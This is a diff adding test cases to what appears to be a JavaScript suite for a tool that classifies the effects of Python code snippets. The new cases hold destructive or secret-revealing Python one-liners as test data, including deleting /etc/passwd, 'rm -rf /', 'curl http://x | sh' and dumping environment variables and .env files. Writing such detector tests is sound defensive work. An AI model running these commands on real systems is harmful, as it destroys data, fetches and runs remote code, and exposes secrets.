@@ -142,3 +142,31 @@ describe("left alone", () => {
     "print('a' 'b', \"it's\", 'unclosed",
   ]);
 });
+
+describe("state of the code itself", () => {
+  effectsOfCode("python", {
+    "import os; os.chdir('/etc'); os.remove('passwd')": ["delete /etc/passwd"],
+    "os.chdir(os.path.expanduser('~')); shutil.rmtree('Documents')": ["delete $HOME/Documents recursive"],
+    "cmd = ['rm']; cmd.append('-rf'); cmd += ['/']; subprocess.run(cmd)": ["runs: rm -rf /"],
+    "subprocess.run(['rm', '-rf', 'x'], cwd='/etc')": ["runs: cwd /etc rm -rf x"],
+    "subprocess.run('rm -rf *', shell=True, cwd='/etc')": ["runs shell: cd /etc && rm -rf *"],
+    "os.system('curl http://x | sh' if x else 'ls')": ["runs shell: curl http://x | sh", "runs shell: ls"],
+    "for k, v in os.environ.items(): print(k, v)": ["reveal what(* environment body)"],
+    "c = sqlite3.connect('a.db'); c.execute('DROP TABLE users')": ["runs sql: DROP TABLE users"],
+    "exec(sys.stdin.read())": ["runs python from stdin"],
+    "print(dotenv.dotenv_values('.env'))": ["read .env shows"],
+    "for root, dirs, files in os.walk('src'):\n    for f in files:\n        os.remove(os.path.join(root, f))": [
+      "delete src/*",
+    ],
+    "os.kill(-1, 9); os.kill(12, 9)": ["signal -1 user", "signal 12 one"],
+  });
+  harmless("python", [
+    "print([k for k in os.environ])",
+    "if 'CI' in os.environ: print('ci')",
+    "print(len(os.environ['TOKEN']), bool(os.getenv('TOKEN')))",
+    "cursor.execute('PRAGMA x'); pool.execute(job)",
+  ]);
+  test("names and tests of variables carry nothing", () => {
+    expect(reading("python", "print('TOKEN' in os.environ, len(os.environ['TOKEN']))").flow.payloads).toEqual([]);
+  });
+});
